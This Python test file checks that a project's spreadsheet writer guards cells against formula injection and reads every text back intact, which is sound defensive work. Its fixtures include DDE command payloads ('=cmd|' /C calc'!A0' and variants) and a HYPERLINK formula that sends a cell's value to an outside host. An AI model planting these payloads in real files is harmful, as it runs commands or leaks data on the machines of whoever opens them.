"""What Hunar writes for a spreadsheet: no cell is run, none is rewritten, and every text comes back."""

from __future__ import annotations

import csv
import re
from io import StringIO
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from profiling.error_files import ErrorFile
from profiling.errors import RowProblem
from profiling.spreadsheets import guard, unguard
from profiling.tabular import RawRow, open_table

ROOT = Path(__file__).parents[2]
#: What a spreadsheet runs, written out once more: the first sign that is seen.
DANGEROUS = tuple("=+-@＝＋－＠")
UNSEEN = "\ufeff\u200b\u2060\xa0\x00 \t\r\n\x0b\x0c\x1f"

TEXTS = (
    "+9779812345678", "-5", "=1+1", "@home", "007", "0012.5", "9779812345678", "3-5", "2026-12-11", "11/12/26",
    "1E5", "8:30", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"see")', "\ufeff=1", "\u200b=1", "＝1+1", "'=1", "''=1", "'", "''", "'x'",
    "a;=1+1", "a\n=1+1", "a\n'=1", "a\t@x", "Duties:\n- mix mortar\n- carry brick", "a\n \n=1", "x\r\n;'+1", '"=1"',
    "Rs 20,000 - 25,000", "don't", "Men's tailor", "5", "12.5", "सिकर्मी", "-", "--", "+", "a,=1", "'a;'b", ";=",
)  # fmt: skip


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take a cell for a formula, or drop it into another one."""
    return cell.lstrip(UNSEEN).startswith(DANGEROUS) or (cell.startswith(("\t", "\r", "\n")) and bool(cell.strip()))


def written(folder: Path, texts: list[str]) -> Path:
    """The error file of a row that holds these texts."""
    columns = tuple(f"c{at}" for at in range(len(texts)))
    errors = ErrorFile(Path("demo"), columns, folder)
    errors.add(RawRow(2, dict(zip(columns, texts, strict=True))), [RowProblem(2, "c0", "=1 is not a number")])
    path = errors.keep()
    assert path is not None
    return path


def read_back(path: Path, count: int) -> list[str]:
    with open_table(path) as table:
        (row,) = table.rows
    assert row.problem is None
    assert row.cells["error_reason"] == "=1 is not a number"
    return [row.cells[f"c{at}"] for at in range(count)]


def test_texts_come_back_and_none_is_run(tmp_path: Path) -> None:
    path = written(tmp_path, list(TEXTS))
    with path.open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert len(cells) == 2 * (len(TEXTS) + 3)
    assert [cell for cell in cells if runs(cell)] == []
    assert read_back(path, len(TEXTS)) == [text.strip() for text in TEXTS]


def test_cells_that_are_saved_again_as_a_workbook_come_back(tmp_path: Path) -> None:
    with written(tmp_path, list(TEXTS)).open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    book = openpyxl.Workbook()
    for at, row in enumerate(rows, start=1):
        for place, cell in enumerate(row, start=1):
            book.worksheets[0].cell(at, place).value = cell
    path = tmp_path / "again.xlsx"
    book.save(path)
    # XML knows one kind of line break.
    assert read_back(path, len(TEXTS)) == [text.strip().replace("\r\n", "\n") for text in TEXTS]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("+9779812345678", "'+9779812345678"), ("=1+1", "'=1+1"), ("'=1", "''=1"), ("\ufeff @x", "'\ufeff @x"),
        ("007", "'007"), ("3-5", "'3-5"), ("9779812345678", "'9779812345678"), ("a;=b\n- c", "a;'=b\n'- c"),
        ("25000", "25000"), ("12.5", "12.5"), ("Mason - Pokhara", "Mason - Pokhara"), ("'tis", "'tis"), ("", ""),
        ("0", "0"), ("0.5", "0.5"), ("98 12 34", "98 12 34"), ("a=b", "a=b"), ("'08 models", "'08 models"),
    ],
)  # fmt: skip
def test_what_is_guarded(text: str, cell: str) -> None:
    assert guard(text) == cell
    assert unguard(cell) == text


#: Mostly the signs that matter, so that their mixtures are met.
_TEXTS = st.text(
    st.one_of(
        st.sampled_from("=+-@＝'';;\t\r\n \ufeff\u200b\xa0\x0b0123456789./:eE\",|a"), st.characters(codec="utf-8")
    ),
    max_size=14,
)


@settings(max_examples=5_000, deadline=None, derandomize=True)
@given(text=_TEXTS)
def test_any_text_comes_back_and_is_not_run(text: str) -> None:
    cell = guard(text)
    assert unguard(cell) == text
    assert not runs(cell)
    assert unguard(cell.strip()).strip() == text.strip()
    # Neither where the file is split at semicolons and tabs, at the marks of quotes, or at its line breaks.
    assert not any(runs(part) for part in re.split(r"[;\t\r\n]", cell))


@settings(
    max_examples=100, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(texts=st.lists(_TEXTS, min_size=1, max_size=50))
def test_any_row_comes_back_through_a_file(tmp_path: Path, texts: list[str]) -> None:
    texts = [text.replace("\0", "") for text in texts]
    path = written(tmp_path, ["x", *texts])
    assert read_back(path, len(texts) + 1) == ["x", *(text.strip() for text in texts)]
    path.unlink()


def test_what_a_killed_run_left_is_removed_and_what_another_run_writes_is_not(tmp_path: Path) -> None:
    orphan = tmp_path / ".demo.abc.part"
    orphan.write_text("Sita,+9779812345678", encoding="utf-8")
    first, second = (ErrorFile(Path("demo"), ("a",), tmp_path) for _ in range(2))
    for at, errors in enumerate((first, second)):
        errors.add(RawRow(2, {"a": f"row {at}"}), [RowProblem(2, "a", "is wrong")])
    assert not orphan.exists()
    assert [path and path.name for path in (first.keep(), second.keep())] == [
        "demo.errors.csv",
        "demo.errors-2.csv",
    ]
    assert list(tmp_path.glob(".*")) == []


def test_a_long_text_of_guards_is_written_and_read_at_once() -> None:
    for unit in ("'", "\n'", ";' ", "'\ufeff", "\n", " "):
        text = unit * 300_000
        assert unguard(guard(text)) == text


def test_every_file_that_people_open_is_written_by_the_one_writer() -> None:
    """The benchmark writes files that only Hunar reads."""
    ours = re.compile(r"csv\.writer|DictWriter|to_csv|Workbook\(|to_excel")
    writers = {
        str(path.relative_to(ROOT))
        for folder in ("profiling", "jobs_ingest", "matching", "api")
        for path in (ROOT / folder).rglob("*.py")
        if ours.search(path.read_text(encoding="utf-8"))
    }
    assert writers == {"profiling/spreadsheets.py", "api/bench/synthetic.py"}


def test_the_column_names_of_somebody_else_are_not_run_either(tmp_path: Path) -> None:
    source = tmp_path / "x.csv"
    with source.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["=cmd|'/C calc'!A0", "title"], ["x", "y"]])
    with open_table(source) as table:
        columns = table.columns
    errors = ErrorFile(source, columns, tmp_path)
    errors.add(RawRow(2, dict.fromkeys(columns, "x")), [RowProblem(2, "title", "is wrong")])
    path = errors.keep()
    assert path is not None
    first = next(csv.reader(StringIO(path.read_text(encoding="utf-8-sig"))))
    assert [name for name in first if runs(name)] == []
    with open_table(path) as table:
        assert table.columns[:2] == columns
